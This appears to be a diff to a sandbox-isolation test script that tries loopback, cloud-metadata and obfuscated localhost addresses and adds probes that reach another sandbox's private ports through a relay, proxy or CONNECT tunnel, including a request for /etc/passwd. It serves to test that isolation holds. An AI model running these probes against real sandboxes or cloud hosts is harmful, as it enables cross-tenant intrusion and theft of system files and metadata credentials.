@@ -1,9 +1,10 @@
 """Tries what code in a sandbox must not be able to do.
 
-Usage: attack.py HOST:PORT KEY SERVER ABSTRACT ADDRESS..., the address and half of the
-key of the cloud, the port of a server on the loopback of the host, the name of a
-socket of the host, and its other addresses. The port of the cloud on a sandbox's own
-loopback is open, and leads to the public names of sandboxes alone. Each success is a line that begins with ESCAPED; the last line says how many were tried.
+Usage: attack.py HOST:PORT KEY OTHER SERVER ABSTRACT ADDRESS..., the address and half of
+the key of the cloud, the id of another sandbox whose traffic is private, the port of a
+server on the loopback of the host, the name of a socket of the host, and its other
+addresses. The port of the cloud on a sandbox's own loopback is open, and leads to the
+public names of sandboxes alone. Each success is a line that begins with ESCAPED; the last line says how many were tried.
 """
 
 import concurrent.futures
@@ -13,7 +14,7 @@ import os
 import socket
 import sys
 
-address, key, server, abstract = sys.argv[1:5]
+address, key, other, server, abstract = sys.argv[1:6]
 port = address.rpartition(":")[2]
 libc = ctypes.CDLL(None, use_errno=True)
 tried = 0
@@ -128,7 +129,7 @@ NAMES = (
     "127.0.0.1 127.1 0x7f.1 0177.0.0.1 2130706433 127.0.0.2 0.0.0.0 0 localhost LOCALHOST localhost. localhost.localdomain ip6-localhost "
     "[::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1] [::127.0.0.1] [0:0:0:0:0:ffff:127.0.0.1] [64:ff9b::7f00:1] [2002:7f00:1::] "
     "169.254.169.254 [fd00:ec2::254] metadata.google.internal api.localhost sandbox.localhost"
-).split() + sys.argv[5:]
+).split() + sys.argv[6:]
 
 
 def through_proxy(host, tunnel):
@@ -153,6 +154,23 @@ def directly(host, called):
     return answer if answer.split(b" ")[1:2] == [b"200"] else None
 
 
+def private(inside, way):
+    """What a port of another sandbox, whose tokens we do not have, answers under its public name."""
+    name = "%d-%s.localhost" % (inside, other)
+    # Its daemon has a token of its own, without which it says no more than that it is there.
+    path = "/files?path=/etc/passwd" if inside == 49983 else "/health"
+    request = "GET %s HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n" % (path, name, port)
+    with socket.create_connection(("127.0.0.1", int(port) if way == "relay" else 3128), 5) as s:
+        if way == "tunnel":
+            s.sendall(("CONNECT %s:%s HTTP/1.1\r\nHost: %s:%s\r\n\r\n" % (name, port, name, port)).encode())
+            s.recv(4096)
+        elif way == "proxy":
+            request = request.replace(path, "http://%s:%s%s" % (name, port, path))
+        s.sendall(request.encode())
+        answer = s.recv(4096)
+    return answer if answer.split(b" ")[1] not in (b"401", b"403") else None
+
+
 # All at once: some are names that a resolver may take long to look up.
 with concurrent.futures.ThreadPoolExecutor(64) as pool:
     for host in NAMES:
@@ -160,6 +178,9 @@ with concurrent.futures.ThreadPoolExecutor(64) as pool:
             pool.submit(attempt, "connection to %s as %s" % (host, called), lambda host=host, called=called: directly(host, called))
         for tunnel in (True, False):
             pool.submit(attempt, "proxy to " + host, lambda host=host, tunnel=tunnel: through_proxy(host, tunnel))
+    for inside in (3000, 8888, 49983, 49999):
+        for way in ("relay", "proxy", "tunnel"):
+            pool.submit(attempt, "port %d of another by the %s" % (inside, way), lambda inside=inside, way=way: private(inside, way))
 
 
 def write(path, data):
